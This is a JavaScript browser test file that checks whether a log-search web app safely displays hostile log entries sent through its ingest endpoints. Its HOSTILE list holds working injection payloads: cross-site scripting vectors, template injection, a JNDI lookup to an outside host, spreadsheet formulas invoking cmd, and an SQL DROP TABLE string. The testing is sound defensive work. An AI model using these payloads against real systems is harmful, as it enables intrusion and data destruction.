// Whatever a sender writes is shown as text: no script of it runs, nothing of it is obeyed.

import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { connect } from 'node:net'
import { join } from 'node:path'
import { after, before, test } from 'node:test'

import { openPage, startBrowser, startServer, until } from './harness.mjs'

const PASSWORD = 'mot mat khau kha dai 2026'
const OWN = 'window.__owned=1'

/** Every text tries to set the marker, to leave its place, or to change what is seen. */
const HOSTILE = [
  `<script>${OWN}</script>`,
  `"><script>${OWN}</script>`,
  `'><img src=x onerror=${OWN}>`,
  `<img src=x onerror="${OWN};alert(1)">`,
  `<svg onload=${OWN}>`,
  `<svg><script>${OWN}</script></svg>`,
  `<math><mi//xlink:href="data:x,<script>${OWN}</script>">`,
  `<iframe srcdoc="<script>parent.${OWN.slice(7)}</script>"></iframe>`,
  `<a href="javascript:${OWN}">click</a>`,
  `javascript:${OWN}//`,
  `<body onload=${OWN}><details open ontoggle=${OWN}>`,
  `<style>*{display:none}</style><link rel=stylesheet href=//198.51.100.9/x.css>`,
  `<base href="//198.51.100.9/"><form action="//198.51.100.9/"><input autofocus onfocus=${OWN}>`,
  `<meta http-equiv="refresh" content="0;url=//198.51.100.9/">`,
  `</title></textarea></script><script>${OWN}</script>`,
  `<!--><img src=x onerror=${OWN}>-->`,
  `]]><x xmlns="http://www.w3.org/1999/xhtml" onclick="${OWN}">`,
  `&lt;script&gt;${OWN}&lt;/script&gt;&#60;b&#62;`,
  `\\u003cscript\\u003e${OWN}\\u003c/script\\u003e`,
  `{{constructor.constructor('${OWN}')()}}`,
  '${' + OWN + '}#{' + OWN + '}<%= ' + OWN + ' %>',
  `$t(nav.logout) {{severity}} $t(common.product, {"x": "${OWN}"})`,
  '${jndi:ldap://198.51.100.9/a}',
  `=HYPERLINK("http://198.51.100.9/","x")`,
  `+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|'/C calc'!A0`,
  '\u001b[2J\u001b[31mred\u001b]0;title\u0007\u001b]8;;http://198.51.100.9/\u0007link',
  'evil\u202Egpj.exe\u2066 isolated \u2069\u200B\uFEFFend',
  'nul\u0000middle and \u0085\u2028lines',
  `__proto__ constructor toString hasOwnProperty`,
  `' OR 1=1; DROP TABLE events; --`,
  'Z\u0351\u036b\u0343'.repeat(60),
  `${'A'.repeat(60_000)}<script>${OWN}</script>`,
]
/** Names of fields are the sender's choice too. */
const NAMES = {
  [`<img src=x onerror=${OWN}>`]: 'name of a field',
  ['__proto__x']: { constructor: 'x', toString: 'y' },
  [`a:b OR "c" {{x}} $t(nav.logout)`]: 'query words',
  ['\u202Eeman\u001b[31m']: 'bidirectional',
}

let server
let browser
let page
let problems
const dialogs = []

before(async () => {
  server = await startServer()
  browser = await startBrowser()
  ;({ page, problems } = await openPage(browser, { permissions: ['clipboard-read', 'clipboard-write'] }))
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    return dialog.dismiss()
  })
  // Nothing may be asked of another machine.
  await page.route((url) => !['127.0.0.1', 'localhost'].includes(url.hostname), (route) => {
    problems.push(`asked for ${route.request().url()}`)
    return route.abort()
  })
  // Counted in the page, so that a violation is found even if the console says nothing of it.
  await page.addInitScript(() => {
    window.__violations = []
    document.addEventListener('securitypolicyviolation', (event) => window.__violations.push(`${event.violatedDirective} ${event.blockedURI}`))
  })
})

after(async () => {
  await browser?.close()
  await server?.stop()
})

async function assertUnharmed(where) {
  const state = await page.evaluate(() => ({ owned: window.__owned, violations: window.__violations, title: document.title }))
  assert.equal(state.owned, undefined, `${where}: a script of the sender ran`)
  assert.deepEqual(state.violations, [], where)
  assert.deepEqual(dialogs, [], where)
  // A query that cannot be read is refused with 400, which the browser writes down.
  assert.deepEqual(problems.filter((each) => !/status of 400/.test(each)), [], where)
  // Elements that only a sender could have wanted; the page itself has none of these.
  const odd = await page.locator('#root :is(iframe, object, embed, base, form[action], a[href^="javascript:" i], [onerror], [onload])').count()
  assert.equal(odd, 0, `${where}: elements of the sender's are in the page`)
}

/** Everything of the last day, as the API wants to be asked. */
const recent = () => `/api/v1/events?limit=500&from=${new Date(Date.now() - 86_400_000).toISOString()}&to=${new Date(Date.now() + 60_000).toISOString()}`
const hunt = (q, more = '') => `${server.url}/hunt?from=now-24h&q=${encodeURIComponent(q)}${more}`
const rows = () => page.locator('[role=row][data-index]')

test('hostile texts are taken by two doors and stored', async () => {
  const now = new Date().toISOString()
  const records = HOSTILE.map((text, n) =>
    JSON.stringify({ '@timestamp': now, message: text, 'host.name': text, 'user.name': text, 'evil.value': text, n, ...(n === 0 ? NAMES : {}) })
  )
  const token = readFileSync(join(server.data, 'agent.token'), 'utf8').trim()
  const answer = await fetch(`http://127.0.0.1:${server.ports.http}/ingest/ndjson`, {
    method: 'POST',
    headers: { authorization: `Bearer ${token}`, 'content-type': 'application/x-ndjson' },
    body: records.join('\n'),
  })
  assert.deepEqual(await answer.json(), { accepted: HOSTILE.length, truncated: 0 })
  const lines = HOSTILE.map((text) => `<13>1 ${now} hostile-host hostile-app 1 - - ${text.replaceAll('\n', ' ')}\n`)
  await new Promise((done, fail) => {
    const socket = connect(server.ports.tcp, '127.0.0.1', () => socket.end(lines.join('')))
    socket.on('error', fail)
    socket.on('close', done)
    socket.resume()
  })

  await page.goto(server.canh('setup-link').trim())
  await page.getByLabel('User name').fill('quantri')
  await page.getByLabel('Password', { exact: true }).fill(PASSWORD)
  await page.getByLabel('Password again').fill(PASSWORD)
  await page.getByRole('button', { name: 'Create the account' }).click()
  await page.getByRole('heading', { name: 'Overview' }).waitFor()
  await until('both doors to be stored', 30, () =>
    page.evaluate(async ([address, wanted]) => (await (await fetch(address)).json()).items.length >= wanted, [recent(), HOSTILE.length * 2])
  )
})

test('the table shows them as text', async () => {
  await page.goto(hunt('', '&columns=host.name&columns=user.name&columns=message'))
  await rows().first().waitFor()
  const scroller = rows().first().locator('xpath=ancestor::*[@role="table"]/..')
  for (let step = 0; step < 6; step += 1) {
    await assertUnharmed(`table, step ${step}`)
    await scroller.evaluate((element) => element.scrollBy(0, element.clientHeight * 0.8))
    await page.evaluate(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))))
  }
})

test('what cannot be seen is named', async () => {
  await page.goto(hunt('gpj.exe'))
  await page.getByText('U+202E', { exact: true }).first().waitFor()
  await page.goto(hunt('title link'))
  await page.getByText('ESC', { exact: true }).first().waitFor()
  await assertUnharmed('named')
})

test('the details of each are harmless in every tab', async () => {
  const ids = await page.evaluate(async (address) => (await (await fetch(address)).json()).items.map(({ id }) => id), recent())
  assert.ok(ids.length >= HOSTILE.length * 2)
  await page.goto(hunt('', `&event=${ids[0]}`))
  await page.getByRole('tab', { name: 'Fields' }).waitFor()
  for (const id of ids) {
    // Inside the page, as a click does it: loading the page anew for each would take minutes.
    await page.evaluate((event) => {
      const url = new URL(location.href)
      url.searchParams.set('event', event)
      history.pushState({}, '', url)
      dispatchEvent(new PopStateEvent('popstate', { state: {} }))
    }, id)
    await page.getByRole('tab', { name: 'JSON' }).click()
    await page.locator('article pre').getByText(id).waitFor()
    for (const tab of ['Raw', 'Fields']) await page.getByRole('tab', { name: tab }).click()
  }
  await assertUnharmed('details')
})

test('the values of a field and the filters made of them are harmless', async () => {
  for (const field of ['host.name', 'user.name']) {
    await page.goto(hunt('', `&columns=${field}&columns=message`))
    await page.getByLabel('Find a field').fill(field)
    await page.getByRole('button', { name: new RegExp(`^${field.replace('.', '\\.')}`) }).first().click()
    await page.getByRole('list', { name: /Top values|values/i }).waitFor()
    await assertUnharmed(`values of ${field}`)
    await page.getByRole('dialog').getByRole('button', { name: /^Only/ }).first().click()
    await rows().first().waitFor()
    await assertUnharmed(`filter on ${field}`)
  }
})

test('a hostile query is an error or a search, never more', async () => {
  for (const text of HOSTILE.filter((each) => each.length < 500)) {
    await page.goto(hunt(text))
    await page.getByRole('heading', { name: 'Hunt' }).waitFor()
    await page.getByRole('textbox').first().waitFor()
  }
  await assertUnharmed('queries')
})

test('the list of senders and the overview stay whole', async () => {
  for (const [address, heading] of [
    ['/', 'Overview'],
    ['/agents', 'Agents'],
    [`/alerts?status=all&q=${encodeURIComponent(HOSTILE[1])}`, 'Alerts'],
    [`/rules?q=${encodeURIComponent(HOSTILE[3])}`, 'Rules'],
  ]) {
    await page.goto(server.url + address)
    await page.getByRole('heading', { name: heading, level: 1 }).waitFor()
    await assertUnharmed(address)
  }
})
